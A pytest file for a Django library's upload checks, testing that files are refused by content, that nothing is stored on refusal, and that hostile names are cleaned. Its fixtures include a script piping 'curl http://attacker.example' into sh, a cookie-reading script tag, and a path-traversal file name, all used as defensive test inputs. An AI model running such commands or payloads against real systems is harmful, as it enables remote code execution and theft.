"""Every upload rule, with real files, through the pages people use: adding a resource (``library:new``),
adding a file to one (``library:add_document``) and uploading a new version (``library:add_version``).

A refused file is decided by its content, never by its name; it gives the page back with a message that
says why, stores nothing (no row, no file in storage) and leaves what was already in the library as it was.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from directory.access import Visibility
from library import samples
from library.filetypes import FileKind
from library.models import Document, FileVersion, Resource
from tests.conftest import organization, signed_in
from tests.library.conftest import pdf_upload, resource_data
from tests.pages import words

pytestmark = pytest.mark.django_db

EXISTING_PDF = samples.pdf_bytes("Existing report", ["Stored before the bad uploads."])


# --- Helpers ------------------------------------------------------------------------------------------------


def stored_files(settings) -> dict[str, bytes]:
    """Every file in the test's upload storage, by its path under the storage root."""
    root = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    if not root.exists():
        return {}
    return {
        path.relative_to(root).as_posix(): path.read_bytes() for path in root.rglob("*") if path.is_file()
    }


def add_file_to(client, existing: Resource, view: str, data: dict):
    """Post a file to the resource: as another file ("add_document") or a new version of its one file."""
    target = existing.pk if view == "add_document" else Document.objects.get(resource=existing).pk
    return client.post(reverse(f"library:{view}", args=[target]), data, follow=True)


def rows() -> tuple[int, int, int]:
    return Resource.objects.count(), Document.objects.count(), FileVersion.objects.count()


def post_new(client, files=(), owner_key="entity:UNODC", follow=False, **fields):
    data = resource_data(organization(owner_key), file_language="en", **fields)
    if files:
        data["files"] = list(files)
    return client.post(reverse("library:new"), data, follow=follow)


def download(client, version: FileVersion) -> bytes:
    response = client.get(reverse("library:download", args=[version.pk]))
    assert response.status_code == 200
    # (reading the whole file also closes it, as a WSGI server would)
    return b"".join(response.streaming_content)


def executable_bytes() -> bytes:
    """A real program: the system's ``true`` (an ELF executable)."""
    return Path(shutil.which("true")).read_bytes()


def zip_bytes() -> bytes:
    output = BytesIO()
    with zipfile.ZipFile(output, "w") as archive:
        archive.writestr("report.txt", "An archive of documents.")
    return output.getvalue()


def multipart(fields: dict[str, str | list[str]], files: list[tuple[str, bytes, bytes]]) -> tuple[bytes, str]:
    """A multipart body written by hand, so a file name reaches the server exactly as a hostile client
    sends it (Django's test client would reduce it to its base name first). ``files``: (field, raw file
    name, content)."""
    boundary = "----compactboundary7MA4YWxkTrZu0gW"
    parts = []
    for name, values in fields.items():
        for value in values if isinstance(values, list) else [values]:
            parts.append(
                f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
            )
    for field, filename, content in files:
        parts.append(
            f'--{boundary}\r\nContent-Disposition: form-data; name="{field}"; filename="'.encode()
            + filename
            + b'"\r\nContent-Type: application/pdf\r\n\r\n'
            + content
            + b"\r\n"
        )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


@pytest.fixture
def existing(add_resource, unodc_user):
    """A resource already in the library, with one PDF: no bad upload may touch it."""
    return add_resource(
        unodc_user,
        title="Existing report",
        files=[SimpleUploadedFile("existing.pdf", EXISTING_PDF)],
    )


def assert_existing_intact(client, existing: Resource) -> None:
    version = FileVersion.objects.get(document__resource=existing)
    assert version.number == 1
    assert version.is_current
    assert download(client, version) == EXISTING_PDF


# --- Refused files: a normal page, a clear message, nothing stored ----------------------------------------

BAD_FILES = [
    pytest.param("empty.pdf", lambda: b"", "The file is empty.", id="zero-byte"),
    pytest.param(
        "report.pdf", executable_bytes, "This file is a program; programs are not accepted.", id="exe-as-pdf"
    ),
    pytest.param(
        "notes.txt",
        lambda: b"#!/bin/sh\ncurl http://attacker.example | sh\n",
        "This file is a program; programs are not accepted.",
        id="script-as-txt",
    ),
    pytest.param(
        "page.txt",
        lambda: b"<!DOCTYPE html><html><script>alert(document.cookie)</script></html>",
        "Web pages, SVG images and other markup files are not accepted.",
        id="html-as-txt",
    ),
    pytest.param(
        "report.docx",
        zip_bytes,
        "Archives (ZIP, 7z, RAR, gzip, tar…) are not accepted: upload the documents themselves.",
        id="zip-as-docx",
    ),
]


@pytest.mark.parametrize(("name", "make", "message"), BAD_FILES)
def test_a_refused_file_gives_the_form_back_with_its_reason_and_stores_nothing(
    settings, existing, unodc_user, name, make, message
):
    # given a library already holding a resource and its file
    client = signed_in(unodc_user)
    before_rows, before_files = rows(), stored_files(settings)

    # when a new resource is added with a file refused by its content
    response = post_new(client, files=[SimpleUploadedFile(name, make())], title="Bad upload")

    # then the form comes back (no error page) naming the file and the reason
    assert response.status_code == 200
    assert 'enctype="multipart/form-data"' in response.content.decode()
    assert f"{name}: {message}" in words(response)
    # and nothing was stored: no row, no file
    assert rows() == before_rows
    assert not Resource.objects.filter(title="Bad upload").exists()
    assert stored_files(settings) == before_files
    # and the file already in the library is untouched
    assert_existing_intact(client, existing)


def test_a_file_over_the_size_cap_is_refused_with_the_cap_in_the_message(settings, existing, unodc_user):
    # given a cap of 1 MB and a real text file of about 1.5 MB
    settings.LIBRARY_MAX_UPLOAD_MB = 1
    big = ("Counter-terrorism capacity building in the Sahel. " * 32_000).encode()
    assert 1024 * 1024 < len(big) < 2 * 1024 * 1024
    client = signed_in(unodc_user)
    before_rows, before_files = rows(), stored_files(settings)

    # when it is uploaded as a new resource
    response = post_new(client, files=[SimpleUploadedFile("big.txt", big)], title="Too big")

    # then the form says the file is over the 1 MB cap, and nothing is stored
    assert response.status_code == 200
    assert "big.txt: The file is larger than 1 MB, the largest file accepted." in words(response)
    assert rows() == before_rows
    assert stored_files(settings) == before_files
    assert_existing_intact(client, existing)


def test_a_file_just_under_the_cap_is_accepted(settings, unodc_user, django_capture_on_commit_callbacks):
    # given a cap of 1 MB and a text file a little smaller
    settings.LIBRARY_MAX_UPLOAD_MB = 1
    data = ("Border management. " * 50_000).encode()
    assert len(data) < 1024 * 1024

    # when it is uploaded
    with django_capture_on_commit_callbacks(execute=True):
        response = post_new(signed_in(unodc_user), files=[SimpleUploadedFile("notes.txt", data)])

    # then it is stored
    assert response.status_code == 302
    assert FileVersion.objects.get().size == len(data)


def test_a_resource_with_neither_file_nor_link_is_refused_with_a_form_error(settings, unodc_user):
    response = post_new(signed_in(unodc_user), title="Nothing attached")

    assert response.status_code == 200
    assert "Add at least one file, or a link to a resource published elsewhere." in words(response)
    assert rows() == (0, 0, 0)
    assert stored_files(settings) == {}


def test_a_refused_file_among_good_ones_stores_none_of_them(settings, unodc_user):
    # given a good PDF and a program, uploaded together
    files = [pdf_upload("good.pdf"), SimpleUploadedFile("setup.pdf", executable_bytes())]

    # when the resource is added
    response = post_new(signed_in(unodc_user), files=files)

    # then the program is named and neither file is stored
    assert response.status_code == 200
    assert "setup.pdf: This file is a program; programs are not accepted." in words(response)
    assert rows() == (0, 0, 0)
    assert stored_files(settings) == {}


@pytest.mark.parametrize("view", ["add_document", "add_version"])
@pytest.mark.parametrize(("name", "make", "message"), BAD_FILES)
def test_a_refused_file_added_to_an_existing_resource_leaves_it_unchanged(
    settings, existing, unodc_user, view, name, make, message
):
    # given an existing resource with one file
    client = signed_in(unodc_user)
    before = rows(), stored_files(settings)

    # when a refused file is added to it as another file or as a new version
    response = add_file_to(
        client, existing, view, {"file": SimpleUploadedFile(name, make()), "language": "fr"}
    )

    # then the resource page comes back with the reason
    assert response.status_code == 200
    assert response.redirect_chain[-1][0] == existing.get_absolute_url()
    assert f"{name}: {message}" in words(response)
    # and nothing was stored; the existing file is still the current, downloadable version 1
    assert (rows(), stored_files(settings)) == before
    assert_existing_intact(client, existing)


@pytest.mark.parametrize("view", ["add_document", "add_version"])
def test_a_file_over_the_cap_added_to_an_existing_resource_is_refused(settings, existing, unodc_user, view):
    settings.LIBRARY_MAX_UPLOAD_MB = 1
    client = signed_in(unodc_user)
    before = rows(), stored_files(settings)

    response = add_file_to(
        client, existing, view, {"file": SimpleUploadedFile("big.txt", b"Sahel. " * 200_000)}
    )

    assert response.status_code == 200
    assert "big.txt: The file is larger than 1 MB, the largest file accepted." in words(response)
    assert (rows(), stored_files(settings)) == before
    assert_existing_intact(client, existing)


# --- Accepted by content, whatever the name -----------------------------------------------------------------


def test_a_pdf_named_docx_is_stored_as_the_pdf_it_is(
    settings, unodc_user, django_capture_on_commit_callbacks
):
    # given a real PDF whose name says it is a Word document
    data = samples.pdf_bytes("Report", ["Maritime security in the Gulf of Guinea."])
    client = signed_in(unodc_user)

    # when it is uploaded as a new resource
    with django_capture_on_commit_callbacks(execute=True):
        response = post_new(client, files=[SimpleUploadedFile("report.docx", data)], follow=True)

    # then it is accepted, and the user is told it is stored as a PDF
    assert response.status_code == 200
    text = words(response)
    assert "Resource added." in text
    assert "report.pdf is a PDF document whatever its name said; it is stored as such." in text
    version = FileVersion.objects.get()
    assert version.kind == FileKind.PDF
    assert version.content_type == "application/pdf"
    assert version.original_name == "report.pdf"
    assert version.file.name.startswith("library/")
    assert version.file.name.endswith(".pdf")
    # and it downloads as report.pdf, the same bytes, served as a PDF
    response = client.get(reverse("library:download", args=[version.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="report.pdf"'
    assert b"".join(response.streaming_content) == data
    # and its text was read as a PDF's
    assert version.is_searchable


@pytest.mark.parametrize("view", ["add_document", "add_version"])
def test_a_pdf_named_docx_added_to_a_resource_is_stored_as_a_pdf_and_the_user_told(
    existing, unodc_user, view, django_capture_on_commit_callbacks
):
    # given an existing resource, and a real PDF named like a Word document
    data = samples.pdf_bytes("Annex", ["Annex on maritime security."])
    document = Document.objects.get(resource=existing)
    target = existing.pk if view == "add_document" else document.pk

    # when it is added as another file, or as a new version
    with django_capture_on_commit_callbacks(execute=True):
        response = signed_in(unodc_user).post(
            reverse(f"library:{view}", args=[target]),
            {"file": SimpleUploadedFile("annex.docx", data)},
            follow=True,
        )

    # then it is stored as the PDF it is, under a .pdf name, and the user is told, as on the "add" page
    assert response.status_code == 200
    version = FileVersion.objects.exclude(document=document, number=1).get()
    assert version.kind == FileKind.PDF
    assert version.original_name == "annex.pdf"
    assert "annex.pdf is a PDF document whatever its name said; it is stored as such." in words(response)


def test_a_hostile_file_name_is_stored_under_a_generated_name_and_offered_cleaned(settings, unodc_user):
    # given a PDF whose name, as the client sends it, climbs directories and holds control characters,
    # Windows-forbidden characters and a right-to-left override
    data = samples.pdf_bytes("Report", ["Prevention of violent extremism."])
    raw_name = "../../../etc/..\\..\\\x07\x1b[2J\x7f..Annual<script>|:*?\u202e report\x01.pdf".encode()
    body, content_type = multipart(
        {**resource_data(organization("entity:UNODC"), title="Hostile name"), "file_language": "en"},
        [("files", raw_name, data)],
    )
    client = signed_in(unodc_user)

    # when it is uploaded
    response = client.generic("POST", reverse("library:new"), body, content_type=content_type)

    # then it is accepted and stored under a generated name under library/, never under the sent name
    assert response.status_code == 302
    version = FileVersion.objects.get()
    assert re.fullmatch(
        rf"library/{version.sha256[:2]}/{version.sha256}-[0-9a-f]{{8}}\.pdf", version.file.name
    )
    assert list(stored_files(settings)) == [version.file.name]
    assert stored_files(settings)[version.file.name] == data
    # and the name it is shown and offered under has no path, no control or forbidden characters
    offered = version.original_name
    assert offered.endswith(".pdf")
    assert "report" in offered
    assert "Annual" in offered
    assert not offered.startswith(".")
    assert not set(offered) & set('/\\"*:<>?|\u202e')
    assert all(char.isprintable() for char in offered)
    download = client.get(reverse("library:download", args=[version.pk]))
    assert download["Content-Disposition"] == f'attachment; filename="{offered}"'
    assert b"".join(download.streaming_content) == data


# --- The same file twice ------------------------------------------------------------------------------------


def test_the_same_file_again_shows_the_existing_resource_and_creates_nothing(settings, existing, unodc_user):
    # given a resource holding a file, and a colleague of its owner
    client = signed_in(unodc_user)
    before_rows, before_files = rows(), stored_files(settings)

    # when the same file is uploaded as a new resource, under another name
    response = post_new(client, files=[SimpleUploadedFile("copy.pdf", EXISTING_PDF)], title="A copy")

    # then the form comes back with a link to the resource already holding it
    assert response.status_code == 200
    assert "This file is already in the library (see the link above)." in words(response)
    assert f'<a href="{existing.get_absolute_url()}">Existing report</a>' in response.content.decode()
    # and nothing new was created
    assert rows() == before_rows
    assert stored_files(settings) == before_files
    assert_existing_intact(client, existing)


def test_the_same_file_added_to_another_resource_shows_the_existing_one(
    settings, add_resource, existing, unodc_user
):
    # given a second resource (a link) of the same organisation
    other = add_resource(unodc_user, title="Another resource")
    client = signed_in(unodc_user)
    before_rows, before_files = rows(), stored_files(settings)

    # when the file of the first resource is added to the second
    response = client.post(
        reverse("library:add_document", args=[other.pk]),
        {"file": SimpleUploadedFile("copy.pdf", EXISTING_PDF)},
        follow=True,
    )

    # then the user is sent to the second resource's page, with a link to the one holding the file
    assert response.status_code == 200
    assert f'<a href="{existing.get_absolute_url()}">Existing report</a>' in response.content.decode()
    assert rows() == before_rows
    assert stored_files(settings) == before_files


def test_the_same_file_as_a_hidden_resource_is_uploaded_and_the_hidden_title_never_shown(
    settings, add_resource, unodc_user, kenya_user, django_capture_on_commit_callbacks
):
    # given a UNODC-only resource holding a file Kenya's focal point cannot know about
    data = samples.pdf_bytes("Assessment", ["Threat assessment of the port of Mombasa."])
    hidden = add_resource(
        unodc_user,
        title="Confidential threat assessment",
        visibility=Visibility.OWNER,
        files=[SimpleUploadedFile("assessment.pdf", data)],
    )
    client = signed_in(kenya_user)

    # when Kenya's focal point uploads the very same file as a resource of Kenya
    with django_capture_on_commit_callbacks(execute=True):
        response = post_new(
            client, files=[SimpleUploadedFile("port.pdf", data)], owner_key="state:KEN", title="Port review"
        )

    # then the upload goes ahead: a new resource with its own stored copy
    assert response.status_code == 302
    mine = Resource.objects.get(title="Port review")
    assert response["Location"] == mine.get_absolute_url()
    versions = FileVersion.objects.filter(sha256=FileVersion.objects.get(document__resource=hidden).sha256)
    assert versions.count() == 2
    assert len({version.file.name for version in versions}) == 2
    assert len(stored_files(settings)) == 2
    # and nothing on the way tells the uploader about the hidden resource
    page = client.get(response["Location"])
    assert page.status_code == 200
    for shown in (response, page):
        assert "Confidential threat assessment" not in shown.content.decode()
        assert "already in the library" not in shown.content.decode()
    assert client.get(hidden.get_absolute_url()).status_code == 404
